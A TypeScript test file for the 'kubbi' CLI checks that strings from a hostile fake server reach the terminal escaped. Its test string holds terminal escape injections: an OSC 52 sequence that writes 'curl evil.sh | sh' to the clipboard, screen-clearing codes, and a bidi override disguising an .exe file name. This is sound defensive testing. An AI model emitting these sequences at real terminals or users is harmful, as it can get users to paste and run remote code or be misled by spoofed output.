/**
 * Terminal escape injection: whatever a producer or a hostile server chose (names, content types, roles,
 * metadata, ids, statuses, timestamps, error messages, a claim URL, a payload shown on a terminal) reaches
 * the terminal escaped. The real API refuses some of these strings at create, so a fake server that sends
 * anything plays the hostile one; metadata, which the real API stores as given, is also sent through it.
 */
import { KubbiClient } from "@kubbi.ai/sdk";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { startFakeApi, type FakeApi } from "./fake-api.js";
import { runMain } from "./in-process.js";
import { kubbi } from "./run.js";

const OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"; // writes "curl evil.sh | sh" to the clipboard
const HOSTILE = `ok\x1b[2J\x1b[H${OSC52}\x07\rfake\u009b31m\u202egpj.exe\u200b\u{e0041}\u2028\x7f\nstatus  active`;
// The same, as the CLI shows it: every control, format and separator character escaped.
const SHOWN =
  "ok\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x07\\x0dfake\\x9b31m\\u202egpj.exe\\u200b\\u{e0041}\\u2028\\x7f\\x0astatus  active";
const RAW = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const escapeRegExp = (text: string) => text.replace(/[\\^$.*+?()[\]{}|]/g, "\\$&");

/** No raw control or invisible character; the only raw newlines are the CLI's own line ends. */
function expectEscaped(output: string): void {
  expect(output.replaceAll("\n", "")).not.toMatch(RAW);
}

const TOKEN = "B".repeat(43);
const TEXT_TOKEN = "C".repeat(43);
const MISSING_TOKEN = "D".repeat(43);
const ID = "00000000-0000-4000-8000-000000000000";
const times = { created_at: HOSTILE, expires_at: HOSTILE };
const file = {
  name: HOSTILE,
  content_type: `text/plain; charset="${HOSTILE}"`,
  size_bytes: 5,
  role: HOSTILE,
  sha256: "0".repeat(64),
};
const detail = {
  id: HOSTILE,
  type: "kubbi_package",
  status: HOSTILE,
  content_type: null,
  file_count: 1,
  total_size_bytes: 5,
  max_retrievals: null,
  retrieval_count: 0,
  remaining_reads: null,
  first_retrieved_at: HOSTILE,
  last_retrieved_at: null,
  metadata: { note: HOSTILE, [HOSTILE]: 1 },
  files: [file],
  ...times,
  // The consumer chose its user agent (and, through a proxy that trusts it, its address): attacker-controlled.
  last_claim: { at: HOSTILE, address: HOSTILE, user_agent: HOSTILE },
  inspect_count: 1,
  last_inspected_at: HOSTILE,
  expired_unclaimed: false,
};
const hostileEvent = {
  id: HOSTILE,
  type: HOSTILE,
  occurred_at: HOSTILE,
  kubbi_id: HOSTILE,
  key_id: HOSTILE,
  retrieval_count: 1,
  max_retrievals: null,
  retrievals_left: null,
  client: { address: HOSTILE, user_agent: HOSTILE },
};
const hostileError = {
  status: 404,
  body: { error: `not_found${HOSTILE}`, message: HOSTILE, messages: [HOSTILE], request_id: HOSTILE },
};

let api: FakeApi;
beforeAll(async () => {
  api = await startFakeApi({
    [`GET /r/${TOKEN}`]: {
      body: {
        ...detail,
        kubbi_id: HOSTILE,
        id: undefined,
        remaining_reads: null,
        claim: { url: HOSTILE, method: "POST", description: HOSTILE },
      },
    },
    [`GET /r/${TEXT_TOKEN}`]: {
      body: {
        type: "kubbi",
        kubbi_id: ID,
        status: "active",
        content_type: "text/plain",
        total_size_bytes: 5,
        max_retrievals: 2,
        retrieval_count: 0,
        remaining_reads: 2,
        metadata: null,
        ...times,
        claim: { url: "", method: "POST", description: "" },
      },
    },
    [`POST /r/${TEXT_TOKEN}/claim`]: {
      body: {
        type: "kubbi",
        kubbi_id: ID,
        content: HOSTILE,
        content_type: "text/plain",
        metadata: null,
        ...times,
        retrieval_count: 1,
        remaining_reads: 1,
        burned: false,
      },
    },
    [`GET /r/${MISSING_TOKEN}`]: hostileError,
    "GET /api/v1/kubbis?page=1&limit=20": {
      body: { kubbis: [detail], pagination: { page: 1, limit: 20, total: 1, total_pages: 1 } },
    },
    [`GET /api/v1/kubbis/${ID}`]: { body: detail },
    [`GET /api/v1/kubbis/${ID}/events`]: { body: { events: [hostileEvent], next_since: null, has_more: false } },
    "POST /api/v1/kubbis": {
      status: 201,
      body: {
        id: ID,
        type: "kubbi",
        claim_url: HOSTILE,
        claim_token: HOSTILE,
        status: "active",
        content_type: "text/plain",
        total_size_bytes: 1,
        max_retrievals: 1,
        metadata: null,
        ...times,
      },
    },
  });
});
afterAll(() => api.close());

const env = () => ({ KUBBI_API_KEY: `kb_${"a".repeat(43)}`, KUBBI_BASE_URL: api.origin });

describe("a hostile server's strings are escaped", () => {
  it("kubbi inspect: name, content type, role, status, id, timestamps and metadata", async () => {
    const shown = await kubbi(["inspect", `${api.origin}/r/${TOKEN}`]);
    expect(shown.code).toBe(0);
    expectEscaped(shown.stdout);
    expectEscaped(shown.stderr);
    expect(shown.stdout).toMatch(new RegExp(`^id\\s+${escapeRegExp(SHOWN)}$`, "m"));
    expect(shown.stdout).toMatch(new RegExp(`^status\\s+${escapeRegExp(SHOWN)}$`, "m"));
    expect(shown.stdout).toContain(`  ${SHOWN}  text/plain; charset="${SHOWN}"  5 B  ${SHOWN}`);
    // Metadata is shown as JSON: C0 as JSON escapes, the rest (C1, DEL, bidi, tags) as \u escapes.
    expect(shown.stdout).toContain('"note":"ok\\u001b[2J\\u001b[H\\u001b]52;c;');
    expect(shown.stdout).toContain("\\u202egpj.exe\\u200b\\udb40\\udc41\\u2028\\u007f\\n");
  });

  it("kubbi inspect --json is valid JSON with the very same values and no raw control character", async () => {
    const shown = await kubbi(["inspect", `${api.origin}/r/${TOKEN}`, "--json"]);
    expectEscaped(shown.stdout);
    expect(JSON.parse(shown.stdout)).toMatchObject({
      kubbiId: HOSTILE,
      status: HOSTILE,
      metadata: { note: HOSTILE, [HOSTILE]: 1 },
      files: [{ name: HOSTILE, role: HOSTILE }],
    });
  });

  it("kubbi list, get, events and send", async () => {
    for (const args of [
      ["list"],
      ["get", ID],
      ["get", ID, "--json"],
      ["events", ID],
      ["events", ID, "--json"],
      ["send", "-"],
    ]) {
      const result = await kubbi(args, { env: env(), input: "x" });
      expect(result.code, args.join(" ")).toBe(0);
      expectEscaped(result.stdout);
      expectEscaped(result.stderr);
      if (!args.includes("--json")) expect(result.stdout, args.join(" ")).toContain(SHOWN);
    }
    const listed = await kubbi(["list"], { env: env() });
    expect(listed.stdout.split("\n")).toHaveLength(3); // header, one row, the final newline: no row was faked
    const events = await kubbi(["events", ID], { env: env() });
    expect(events.stdout.split("\n")).toHaveLength(3);
    expect(events.stdout.split("\n")[1]).toBe(`${SHOWN}  ${SHOWN}  1 of unlimited  ${SHOWN}  ${SHOWN}`);
  });

  it("kubbi get: the last claim's time, address and user agent", async () => {
    const shown = await kubbi(["get", ID], { env: env() });
    expect(shown.stdout).toMatch(
      new RegExp(`^last claimed\\s+${escapeRegExp(`${SHOWN} from ${SHOWN}, user agent ${SHOWN}`)}$`, "m"),
    );
    const json = await kubbi(["get", ID, "--json"], { env: env() });
    expect(JSON.parse(json.stdout)).toMatchObject({ lastClaim: { at: HOSTILE, address: HOSTILE, userAgent: HOSTILE } });
  });

  it("an error's code, message, messages and request id", async () => {
    const result = await kubbi(["inspect", `${api.origin}/r/${MISSING_TOKEN}`]);
    expect(result.code).toBe(3);
    expectEscaped(result.stderr);
    expect(result.stderr).toBe(`kubbi: not_found${SHOWN}: ${SHOWN}\n  (request id ${SHOWN})\n`);
  });

  it("a refused file name quoted in the refusal", async () => {
    const result = await kubbi(["claim", `${api.origin}/r/${TOKEN}`, "-o", "/nonexistent-kubbi-dir"]);
    expect(result.code).toBe(8);
    expectEscaped(result.stderr);
    expect(result.stderr).toMatch(
      /^kubbi: Refusing to write a file named "ok\\u001b\[2J.*\\u202egpj\.exe.*: not a plain file name; nothing was claimed\n$/,
    );
  });

  it("a text payload claimed on a terminal; piped, it stays byte for byte", async () => {
    const onTerminal = await runMain(["claim", `${api.origin}/r/${TEXT_TOKEN}`], { stdoutIsTTY: true });
    expect(onTerminal.code).toBe(0);
    expectEscaped(onTerminal.stdout);
    expect(onTerminal.stdout).toBe(`${SHOWN.replace("\\x0a", "\n")}\n`);

    const piped = await kubbi(["claim", `${api.origin}/r/${TEXT_TOKEN}`]);
    expect(piped).toMatchObject({ code: 0, stdout: HOSTILE });
  });
});

describe("metadata through the real API", () => {
  it("kubbi inspect and kubbi get show escape sequences in metadata escaped", async () => {
    const { baseUrl, apiKey } = inject("kubbi");
    const sent = await new KubbiClient({ apiKey, baseUrl }).send({
      content: "x",
      contentType: "text/plain",
      ttlSeconds: 600,
      metadata: { note: HOSTILE },
    });
    for (const [args, env] of [
      [["inspect", sent.claimUrl], {}],
      [["get", sent.id], { KUBBI_API_KEY: apiKey, KUBBI_BASE_URL: baseUrl }],
    ] as const) {
      const result = await kubbi([...args], { env });
      expect(result.code).toBe(0);
      expectEscaped(result.stdout);
      expect(result.stdout).toMatch(/^metadata\s+\{"note":"ok\\u001b\[2J\\u001b\[H\\u001b\]52;c;/m);
    }
  });
});
